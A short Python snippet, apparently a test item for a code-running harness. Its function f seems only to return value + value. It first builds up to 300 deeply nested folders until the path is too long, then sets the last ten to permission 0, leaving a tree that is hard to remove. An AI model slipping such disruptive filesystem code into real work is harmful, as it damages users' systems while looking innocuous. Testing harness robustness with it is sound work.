# Folders in folders until the path to the last one is longer than any call takes, the last ones closed to their owner.
# must: pass
# not: next answer differs
import os


def f(value):
    for _ in range(300):
        try:
            os.mkdir("d" * 200)
        except OSError:
            break
        os.chdir("d" * 200)
        open("file", "w").close()
    for _ in range(10):
        os.chdir("..")
        os.chmod("d" * 200, 0)
    return value + value
